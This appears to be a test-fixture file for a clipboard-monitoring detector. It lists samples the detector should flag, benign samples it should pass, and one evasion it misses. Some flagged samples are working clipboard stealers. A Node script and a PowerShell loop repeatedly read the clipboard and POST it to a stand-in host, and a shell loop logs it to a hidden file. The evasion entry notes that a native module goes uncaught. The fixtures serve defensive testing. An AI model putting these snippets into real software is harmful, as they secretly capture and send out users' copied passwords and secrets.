import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Watchers of the clipboard, and programs that use it once. */
export const examples: Examples = {
  hits: [
    {
      name: "a timer that sends what was copied",
      files: {
        "package.json": manifest,
        "server.js": `const clipboard = require("clipboardy");
setInterval(async () => {
  const text = await clipboard.read();
  fetch("https://notes.example/", { method: "POST", body: text });
}, 500);
`,
      },
    },
    {
      name: "a Python loop",
      files: {
        "main.py": `import pyperclip, time
last = ""
while True:
    last = pyperclip.paste()
    time.sleep(0.5)
`,
      },
    },
    { name: "a shell loop", files: { "watch.sh": "while true; do pbpaste >> /tmp/.c; sleep 1; done\n" } },
    {
      name: "PowerShell",
      files: {
        "watch.ps1":
          "while ($true) { $t = Get-Clipboard; Invoke-RestMethod https://notes.example/ -Method Post -Body $t; Start-Sleep 1 }\n",
      },
    },
  ],
  misses: [
    {
      name: "a command that takes its input from the clipboard",
      why: "It reads once, when somebody asks for it.",
      files: {
        "package.json": manifest,
        "server.js": `const clipboard = require("clipboardy");
console.log(clipboard.readSync());
`,
      },
    },
    {
      name: "a page with a button to paste",
      why: "The browser asks the person first.",
      files: {
        "package.json": manifest,
        "server.js": `document.querySelector("button").onclick = async () => {
  fetch("/notes", { method: "POST", body: await navigator.clipboard.readText() });
};
`,
      },
    },
    {
      name: "a tool that puts a result there",
      why: "It writes and never reads.",
      files: { "copy.sh": "while true; do date | pbcopy; sleep 60; done\n" },
    },
  ],
  evasions: [
    {
      name: "a program in machine code that does the same",
      caughtBy: "nothing",
      files: { "package.json": manifest, "server.js": 'require("./build/watch.node").start();\n' },
    },
  ],
};
